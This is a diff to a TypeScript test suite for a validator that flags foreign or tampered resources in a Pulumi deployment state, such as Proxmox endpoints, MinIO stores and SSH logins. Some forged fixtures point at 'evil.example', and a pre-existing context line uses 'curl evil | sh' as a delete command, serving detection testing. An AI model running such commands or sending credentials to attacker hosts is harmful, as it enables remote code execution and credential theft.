@@ -3,10 +3,12 @@ import { foreignParts, foreignText } from "../../../../site/state/foreign-parts"
 import { removalCommands } from "../../../../site/state-store/offsite-removal";
 
 const place = { project: "shop", stack: "prod" };
+const addresses = { proxmox: "https://192.0.2.11:8006", store: "192.0.2.132:9000", storeGuest: "192.0.2.132" };
 const own = "urn:pulumi:prod::shop::";
 const provider = `${own}pulumi:providers:proxmoxve::proxmox`;
 const address = "github://api.github.com/muhlba91/pulumi-proxmoxve";
 const secret = { "4dabf18193072939515e22adb298388d": "1b47061264138c4ac30d75fd1eb44270", ciphertext: "v1:a:b" };
+const elsewhere = "https://evil.example:8006";
 const container = "proxmoxve:index/containerLegacy:ContainerLegacy";
 
 const root = { urn: `${own}pulumi:pulumi:Stack::shop-prod`, type: "pulumi:pulumi:Stack", custom: false };
@@ -51,7 +53,7 @@ const written = {
     custom: true,
     id: "4",
     provider: `${own}pulumi:providers:command::default_1_2_1::3`,
-    inputs: { create: "sudo -n sh -s", delete: removalCommands.others, stdin: secret },
+    inputs: { create: "sudo -n sh -s", delete: removalCommands.others, stdin: secret, connection: secret },
     outputs: { create: "sudo -n sh -s", delete: removalCommands.others, stdout: "" },
   },
   buckets: {
@@ -69,10 +71,20 @@ function stateOf(resources: readonly object[], pending: readonly object[] = [], 
   return parseCheckpoint(checkpointOf(JSON.stringify({ version: 3, deployment }), "organization/shop/prod"));
 }
 
-const partsOf = (resources: readonly object[], allowed?: string) => foreignParts(stateOf(resources), place, allowed);
+const partsOf = (resources: readonly object[], allowed?: string) =>
+  foreignParts(stateOf(resources), place, addresses, allowed);
 
 test("what the program writes is its own [N2]", () => {
   expect(partsOf(Object.values(written))).toEqual([]);
+});
+
+test("where the settings have no store, a provider and a login of one are foreign [N2]", () => {
+  const timer = forged("timer", { connection: { host: "192.0.2.132" } }, "inputs");
+  const none = { ...addresses, store: undefined, storeGuest: undefined };
+  expect(foreignParts(stateOf([written.buckets, timer]), place, none, undefined)).toEqual([
+    { urn: written.buckets.urn, why: "its minioServer is 192.0.2.132:9000, and the settings have none" },
+    { urn: written.timer.urn, why: "its host is 192.0.2.132, and the settings have none" },
+  ]);
 });
 
 type Name = keyof typeof written;
@@ -167,6 +179,49 @@ test.each<[string, object, string]>([
   ["no verification", forged("provider", { insecure: true }, "inputs"), "does not set its insecure"],
   ["an endpoint without TLS", forged("provider", { endpoint: "http://192.0.2.66" }, "inputs"), "its endpoint"],
   ["a store without TLS", forged("buckets", { minioSsl: "false" }, "inputs"), "not be encrypted"],
+  [
+    "a node of somebody else",
+    forged("provider", { endpoint: elsewhere }, "inputs"),
+    `its endpoint is ${elsewhere}, and`,
+  ],
+  [
+    "a node of somebody else in what was read",
+    forged("provider", { endpoint: elsewhere }, "outputs"),
+    "its endpoint is",
+  ],
+  ["a node that nobody can read", forged("provider", { endpoint: secret }, "inputs"), "its endpoint is something"],
+  [
+    "a store of somebody else",
+    forged("buckets", { minioServer: "evil.example:9000" }, "inputs"),
+    "its minioServer is evil.example:9000, and that of the settings 192.0.2.132:9000",
+  ],
+  ["another port of the store", forged("buckets", { minioServer: "192.0.2.132:9001" }, "inputs"), "its minioServer is"],
+  [
+    "a login elsewhere",
+    forged("timer", { connection: { host: "evil.example", password: secret } }, "inputs"),
+    "its host is evil.example, and that of the settings 192.0.2.132",
+  ],
+  [
+    "a login by way of somebody else",
+    forged("timer", { connection: { host: "192.0.2.132", proxy: { host: "evil.example" } } }, "inputs"),
+    "through another server",
+  ],
+  [
+    "a login that is only called secret",
+    forged("timer", { connection: { ...secret, ciphertext: undefined, plaintext: "{}" } }, "inputs"),
+    "not sealed",
+  ],
+  ["a login of no form", forged("timer", { connection: "evil.example" }, "inputs"), "unknown form"],
+  [
+    "a provider of another name",
+    forged("provider", { urn: `${own}pulumi:providers:proxmoxve::evil` }),
+    "no provider of this name",
+  ],
+  [
+    "a default provider that needs credentials",
+    forged("provider", { urn: `${own}pulumi:providers:proxmoxve::default` }),
+    "no provider of this name",
+  ],
   ["a provider's provider", forged("provider", { provider: `${provider}::2` }), "no provider as Pulumi"],
   ["another deletion", forged("timer", { delete: "curl evil | sh" }, "inputs"), "when it is deleted"],
   ["another deletion in what was read", forged("timer", { delete: "curl evil | sh" }, "outputs"), "when it is deleted"],
@@ -178,15 +233,15 @@ test.each<[string, object, string]>([
 ])("%s is refused, and named [N2]", (_, resource, why) => {
   const urn = "urn" in resource ? resource.urn : "";
   expect(partsOf([root, resource])).toEqual([{ urn, why: expect.stringContaining(why) }]);
-  expect(foreignParts(stateOf([], [{ type: "deleting", resource }]), place, undefined)).toHaveLength(1);
+  expect(foreignParts(stateOf([], [{ type: "deleting", resource }]), place, addresses, undefined)).toHaveLength(1);
   expect(partsOf([root, { ...resource, delete: true }])).toHaveLength(1);
   expect(partsOf([root, resource], `urn:x, ${String(urn)}`)).toHaveLength(urn === "evil" ? 1 : 0);
 });
 
 test("a service that keeps the secrets is one, too [N2]", () => {
   const state = stateOf([], [], { secrets_providers: { type: "cloud", state: { url: "hashivault://evil" } } });
-  expect(foreignParts(state, place, undefined)).toMatchObject([{ urn: "secrets_providers" }]);
-  expect(foreignParts(state, place, "secrets_providers")).toEqual([]);
+  expect(foreignParts(state, place, addresses, undefined)).toMatchObject([{ urn: "secrets_providers" }]);
+  expect(foreignParts(state, place, addresses, "secrets_providers")).toEqual([]);
 });
 
 test("a message has ten of many, and nothing that a terminal obeys [N2]", () => {
